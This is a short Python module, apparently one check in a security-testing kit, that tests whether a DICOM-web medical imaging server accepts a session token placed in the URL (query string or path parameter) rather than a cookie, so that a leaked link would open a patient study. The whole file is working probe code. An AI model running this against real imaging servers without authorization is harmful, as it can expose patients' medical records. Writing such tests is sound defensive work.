"""A session found in a link (history, proxy log, referrer) is used as a link."""

from __future__ import annotations

from .kit import STORED_AS_IS, Brief, NotArmed, Result, ask, fetch_study, run


def attack(brief: Brief) -> Result:
    """Succeeds when a session in the URL, without the cookie, opens the study."""
    name, value = brief["cookie"]["name"], brief["cookie"]["value"]
    path = f"/dicom-web/studies/{brief['study']['study_uid']}"
    if b"DICM" not in fetch_study(brief, (name, value)).body:
        raise NotArmed("the session does not open the study as a cookie either")
    statuses = []
    for form in (
        f"?{name}={value}",
        f"?session={value}",
        f"?token={value}",
        f"?access_token={value}",
        f";{name}={value}",
    ):
        answer = ask(brief, "GET", path + form, headers=STORED_AS_IS)
        statuses.append(str(answer.status))
        if b"DICM" in answer.body:
            return Result(True, f"the study came back for a link (HTTP {'/'.join(statuses)})")
    return Result(False, f"HTTP {'/'.join(statuses)}")


if __name__ == "__main__":
    run(attack)
